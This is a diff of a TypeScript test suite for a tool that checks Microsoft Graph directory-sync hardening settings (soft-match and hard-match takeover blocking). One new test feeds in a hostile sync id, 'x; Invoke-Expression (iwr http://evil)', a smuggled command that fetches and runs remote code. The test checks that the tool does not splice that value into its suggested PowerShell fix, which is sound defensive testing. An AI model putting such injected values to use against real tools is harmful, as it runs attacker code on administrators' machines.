@@ -120,10 +120,10 @@ describe("runCloudPreflight against a local Graph", () => {
     const tenant = { ...compliantTenant(), features: { blockSoftMatchEnabled: false } };
     const result = await run(tenant);
     expect(messageOf(result.checks, "cloud-block-soft-match")).toBe(
-      "blockSoftMatchEnabled is false: Soft match (joining cloud objects to AD objects by UPN or SMTP address) is allowed. Breaks requirement match.block: Soft match and hard-match takeover blocked in the tenant. Fix (once migration matching is done): Connect-MgGraph -Scopes OnPremDirectorySynchronization.ReadWrite.All; Update-MgDirectoryOnPremiseSynchronization -OnPremisesDirectorySynchronizationId aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee -Features @{ BlockSoftMatchEnabled = $true }",
+      "blockSoftMatchEnabled is false: Soft match (joining cloud objects to AD objects by UPN or SMTP address) is allowed. Breaks requirement match.block: Soft match and hard-match takeover blocked in the tenant. Fix (once migration matching is done): Connect-MgGraph -Scopes OnPremDirectorySynchronization.ReadWrite.All; Update-MgDirectoryOnPremiseSynchronization -OnPremisesDirectorySynchronizationId 'aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee' -Features @{ BlockSoftMatchEnabled = $true }",
     );
     expect(messageOf(result.checks, "cloud-block-hard-match-takeover")).toBe(
-      "blockCloudObjectTakeoverThroughHardMatchEnabled is not set: Hard-match takeover of cloud objects (AD overwriting a cloud object, its password hash included) is allowed. Breaks requirement match.block: Soft match and hard-match takeover blocked in the tenant. Fix (once migration matching is done): Connect-MgGraph -Scopes OnPremDirectorySynchronization.ReadWrite.All; Update-MgDirectoryOnPremiseSynchronization -OnPremisesDirectorySynchronizationId aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee -Features @{ BlockCloudObjectTakeoverThroughHardMatchEnabled = $true }",
+      "blockCloudObjectTakeoverThroughHardMatchEnabled is not set: Hard-match takeover of cloud objects (AD overwriting a cloud object, its password hash included) is allowed. Breaks requirement match.block: Soft match and hard-match takeover blocked in the tenant. Fix (once migration matching is done): Connect-MgGraph -Scopes OnPremDirectorySynchronization.ReadWrite.All; Update-MgDirectoryOnPremiseSynchronization -OnPremisesDirectorySynchronizationId 'aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee' -Features @{ BlockCloudObjectTakeoverThroughHardMatchEnabled = $true }",
     );
   });
 });
@@ -222,9 +222,9 @@ describe("Graph failure modes", () => {
   });
 
   it("403: names the permission the token lacks", async () => {
-    await expect(run(compliantTenant(), {}, { forbidden: /onPremisesSynchronization/ })).rejects.toThrow(
+    await expect(run(compliantTenant(), {}, { forbidden: /subscribedSkus/ })).rejects.toThrow(
       new CheckFailedError(
-        "Microsoft Graph refused GET /directory/onPremisesSynchronization (HTTP 403 Authorization_RequestDenied: Insufficient privileges to complete the operation.): the token lacks the permission OnPremDirectorySynchronization.Read.All. Grant it to the app or the signed-in account (admin consent), then run again.",
+        "Microsoft Graph refused GET /subscribedSkus (HTTP 403 Authorization_RequestDenied: Insufficient privileges to complete the operation.): the token lacks the permission Organization.Read.All. Grant it to the app or the signed-in account (admin consent), then run again.",
       ),
     );
     await server?.close();
@@ -304,5 +304,37 @@ describe("Graph failure modes", () => {
     await expect(runCloudPreflight({ graphUrl: "https://127.0.0.1:1", token: TOKEN, upnSuffixes: ["contoso com"] })).rejects.toThrow(
       new InputError('--upn-suffixes: "contoso com" is not a domain name. List DNS suffixes such as contoso.com, comma-separated.'),
     );
+  });
+});
+
+describe("GET /directory/onPremisesSynchronization refused or hostile", () => {
+  // v1.0 reference onpremisesdirectorysynchronization-get: "Application: Not supported"; delegated
+  // OnPremDirectorySynchronization.Read.All, and "Global Administrator is the only role supported for this operation".
+  it("an app-only token: both match checks are not checked (warn) with the reason; the run goes on", async () => {
+    const result = await run(compliantTenant(), {}, { appOnlyToken: true });
+    const statuses = statusById(result.checks);
+    expect(statuses["cloud-block-soft-match"]).toBe("warn");
+    expect(statuses["cloud-block-hard-match-takeover"]).toBe("warn");
+    expect(statuses["cloud-installer-role"]).toBe("pass");
+    expect(messageOf(result.checks, "cloud-block-soft-match")).toContain(
+      "Could not check blockSoftMatchEnabled: Microsoft Graph refused GET /directory/onPremisesSynchronization (HTTP 403): it supports no application permission",
+    );
+    expect(messageOf(result.checks, "cloud-block-soft-match")).toContain("by a Global Administrator");
+    expect(result.synchronization).toBeUndefined();
+  });
+
+  // Issue 14 item 4: a sync id that is not a GUID never reaches the suggested PowerShell; the command reads the id itself.
+  it("a sync id that is not a GUID is not spliced into the Fix command", async () => {
+    const hostile = "x; Invoke-Expression (iwr http://evil)";
+    const body = JSON.stringify({ value: [{ id: hostile, features: { blockSoftMatchEnabled: false } }] });
+    const result = await run(compliantTenant(), {}, { raw: { path: /onPremisesSynchronization/, status: 200, body } });
+    const message = messageOf(result.checks, "cloud-block-soft-match") ?? "";
+    expect(message).not.toContain("Invoke-Expression");
+    expect(message).toContain("-OnPremisesDirectorySynchronizationId (Get-MgDirectoryOnPremiseSynchronization).Id -Features");
+  });
+
+  it("the group membership call is an advanced query: ConsistencyLevel eventual and $count=true", async () => {
+    await run(compliantTenant());
+    expect(server?.requests.some((r) => /transitiveMemberOf\/microsoft\.graph\.group\?\$count=true/.test(r))).toBe(true);
   });
 });
